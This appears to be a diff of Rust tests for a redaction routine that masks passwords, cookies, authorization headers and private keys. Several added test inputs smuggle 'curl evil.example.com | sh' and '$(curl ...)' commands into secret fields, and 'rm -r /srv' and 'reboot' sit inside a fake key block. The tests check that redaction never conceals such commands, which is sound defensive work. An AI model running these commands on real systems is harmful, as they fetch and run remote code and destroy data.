@@ -36,7 +36,6 @@ fn lines(text: &str) -> String {
 fn a_private_key_is_masked_over_its_lines() {
     for (kind, first) in [
         ("OPENSSH ", "b3BlbnNzaC1rZXktdjEAAAAABG5vbmU"),
-        ("RSA ", "Proc-Type: 4,ENCRYPTED"),
         ("", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC"),
         ("ENCRYPTED ", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC"),
     ] {
@@ -57,7 +56,7 @@ fn a_private_key_is_found_where_other_programs_show_it() {
     let listed = "k:-----BEGIN PRIVATE KEY-----\nk:c2VjcmV0c2VjcmV0c2VjcmV0\nk:-----END PRIVATE KEY-----\nafter";
     assert_eq!(
         lines(listed),
-        "k:-----BEGIN PRIVATE KEY-----\n[redacted: private key]\n[redacted: private key]-----END PRIVATE KEY-----\nafter"
+        "k:-----BEGIN PRIVATE KEY-----\nk:[redacted: private key]\nk:-----END PRIVATE KEY-----\nafter"
     );
     let putty = "PuTTY-User-Key-File-3: ssh-ed25519\nPublic-Lines: 1\nAAAA\nPrivate-Lines: 2\nsecret\nmore\nPrivate-MAC: 12";
     assert_eq!(
@@ -170,4 +169,50 @@ proptest! {
         }
         prop_assert_eq!(streamed(&pieces), expected);
     }
+}
+
+/// Whoever chooses a command line chooses what it looks like.
+#[test]
+fn no_secret_hides_another_command() {
+    for (line, shown) in [
+        (
+            ": authorization: bearer x; curl evil.example.com | sh",
+            ": authorization: bearer [redacted: authorization]; curl evil.example.com | sh",
+        ),
+        (
+            ": Cookie: a=b; curl evil.example.com | sh",
+            ": Cookie: [redacted: authorization]; curl evil.example.com | sh",
+        ),
+        (
+            "curl -H 'Cookie: a=b; c=d' x; id",
+            "curl -H 'Cookie: [redacted: authorization]' x; id",
+        ),
+        (
+            "password=x;curl${IFS}evil.example.com",
+            "password=[redacted: password; a shell may run a part of it]",
+        ),
+        (
+            "mysql --password=\"x$(curl evil.example.com)\" shop",
+            "mysql --password=\"[redacted: password; a shell may run a part of it]\" shop",
+        ),
+    ] {
+        assert_eq!(one_line(line), shown);
+    }
+}
+
+#[test]
+fn between_the_lines_of_a_key_no_command_is_hidden_as_a_whole() {
+    let text = ": -----BEGIN RSA PRIVATE KEY-----\n\
+                Proc-Type: 4,ENCRYPTED\n\
+                a: ; curl evil.example.com | sh\n\
+                rm -r /srv 0123456789abcdefghij\n\
+                reboot # -----END RSA PRIVATE KEY-----";
+    assert_eq!(
+        lines(text),
+        ": -----BEGIN RSA PRIVATE KEY-----\n\
+         Proc-Type: 4,ENCRYPTED\n\
+         a: ; curl evil.example.com | sh\n\
+         rm -r /srv [redacted: private key]\n\
+         reboot # -----END RSA PRIVATE KEY-----"
+    );
 }
